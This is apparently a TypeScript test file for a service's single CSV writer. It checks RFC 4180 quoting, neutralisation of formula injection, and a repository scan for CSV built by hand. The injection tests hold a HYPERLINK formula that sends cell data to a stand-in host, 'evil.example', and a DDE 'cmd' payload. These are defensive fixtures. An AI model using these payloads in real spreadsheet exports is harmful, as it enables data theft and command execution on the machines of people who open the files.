import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { countQuotes, csvCell, csvDocument, csvRecord, CsvValue, splitRecord } from './csv';

/** Reads a document the way the service's readers do: records may span lines inside quotes. */
function readDocument(text: string): string[][] {
  const out: string[][] = [];
  let pending: string | null = null;
  for (const line of text.replace(/\n$/, '').split('\n')) {
    pending = pending === null ? line : `${pending}\n${line}`;
    if (countQuotes(pending) % 2 === 0) {
      out.push(splitRecord(pending));
      pending = null;
    }
  }
  expect(pending).toBeNull();
  return out;
}

describe('csvCell / csvRecord / csvDocument: the one CSV writer', () => {
  it('quotes per RFC 4180 only when it must, and the reader gets every non-formula value back', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\rin')).toBe('"cr\rin"');
    expect(csvCell('')).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    const rows = [
      ['K0000001', 'a,b', 'say "hi"', 'two\nlines', '', 'x=1', 'a-b', 'mail@x', ' leading space', 'ünïcode ✓', '"'],
      ['', '', ',', '""', 'end,', 'tab\tinside', 'K1', 'NaN', '0.5', 'true', 'null'],
    ];
    const doc = csvDocument(['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'h7', 'h8', 'h9', 'h10', 'h11'], rows);
    expect(doc.endsWith('\n')).toBe(true);
    expect(readDocument(doc)).toEqual([['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'h7', 'h8', 'h9', 'h10', 'h11'], ...rows]);
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])('neutralises text beginning with %j: a leading quote, and the cell quoted', (lead) => {
    const value = `${lead}HYPERLINK("https://evil.example/?"&A1,"klik")`;
    const cell = csvCell(value);
    expect(cell.startsWith(`"'${lead}`)).toBe(true);
    expect(splitRecord(csvRecord(['x', value, 'y']))).toEqual(['x', `'${value}`, 'y']);
    // Not neutralised when asked not to (data files read back by a program), but still RFC 4180.
    expect(splitRecord(csvRecord([value], { neutralise: false }))).toEqual([value]);
  });

  it('neutralises the classic payloads and leaves text with a formula character later on alone', () => {
    expect(csvCell('=1+2')).toBe(`"'=1+2"`);
    expect(csvCell("=cmd|' /C calc'!A0")).toBe(`"'=cmd|' /C calc'!A0"`);
    expect(csvCell('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvCell('+31 20 123 4567')).toBe(`"'+31 20 123 4567"`);
    expect(csvCell('-K0000001')).toBe(`"'-K0000001"`);
    expect(csvCell('\t=1')).toBe(`"'\t=1"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('a=1')).toBe('a=1');
    expect(csvCell('2026-11-20T10:15:00.000Z')).toBe('2026-11-20T10:15:00.000Z');
    expect(csvCell('{"a":"=1"}')).toBe('"{""a"":""=1""}"');
  });

  it('writes a JS number (and a boolean) as it is, a negative one too; the same digits as text are text', () => {
    expect(csvRecord([-3, 0, 0.68, -0.5, 1e21, true, false] as CsvValue[])).toBe('-3,0,0.68,-0.5,1e+21,true,false');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('');
    expect(csvCell('-3')).toBe(`"'-3"`);
    expect(csvCell('3')).toBe('3');
  });

  it('neutralises the header too, and ends every record with \\n', () => {
    expect(csvDocument(['a', '=b'], [])).toBe(`a,"'=b"\n`);
    expect(csvDocument(['a'], [[1], [null], ['x']])).toBe('a\n1\n\nx\n');
  });
});

/**
 * Every CSV the service writes goes through this writer. A file that quotes CSV itself (doubles
 * quotes) or joins cells with ',' into records is a hand-rolled writer: none outside csv.ts.
 * Headers of constant column names (SNAPSHOT_COLUMNS.join(',')) and commas in messages, SQL or
 * COPY arrays are not CSV cells and do not match these patterns.
 */
describe('one CSV writer for all', () => {
  const root = join(__dirname, '..', '..', '..');
  const files: string[] = [];
  const walk = (dir: string) => {
    for (const d of readdirSync(dir, { withFileTypes: true })) {
      const p = join(dir, d.name);
      if (d.isDirectory() && d.name !== 'node_modules') walk(p);
      else if (d.isFile() && d.name.endsWith('.ts') && !d.name.endsWith('.spec.ts') && !d.name.endsWith('.d.ts')) files.push(relative(root, p));
    }
  };
  walk(join(root, 'apps'));
  walk(join(root, 'libs'));
  const HAND_ROLLED = [
    { what: 'doubles quotes itself', re: /replace\(\s*\/"\/g\s*,\s*'""'\s*\)/ },
    { what: 'joins an array of cells with commas', re: /\]\s*\.join\(\s*','\s*\)/ },
    { what: 'joins escaped cells with commas', re: /\.map\(\s*[A-Za-z_$][\w$]*\s*\)\s*\.join\(\s*','\s*\)/ },
  ];

  it('finds the writers it should (the scan works)', () => {
    expect(files).toEqual(expect.arrayContaining(['libs/core/src/csv.ts', 'apps/api/src/ops/audit.controller.ts', 'libs/mediation/src/reports/mediation-report.ts']));
    expect(HAND_ROLLED[0].re.test(readFileSync(join(root, 'libs/core/src/csv.ts'), 'utf8'))).toBe(true);
  });

  it('no file under apps/ or libs/ builds CSV by hand', () => {
    const found: string[] = [];
    for (const f of files) {
      if (f === join('libs', 'core', 'src', 'csv.ts')) continue;
      const text = readFileSync(join(root, f), 'utf8');
      for (const h of HAND_ROLLED) if (h.re.test(text)) found.push(`${f}: ${h.what}`);
    }
    expect(found).toEqual([]);
  });

  it('every route that answers text/csv writes it with the one writer', () => {
    const writers = /\b(csvDocument|csvRecord|csvCell|csvLine|mediationReportCsv|insurerReportCsv)\(/;
    const answering = files.filter((f) => /header\(\s*'content-type'\s*,\s*'text\/csv/.test(readFileSync(join(root, f), 'utf8')));
    expect(answering.length).toBeGreaterThanOrEqual(3);
    for (const f of answering) expect([f, writers.test(readFileSync(join(root, f), 'utf8'))]).toEqual([f, true]);
  });
});
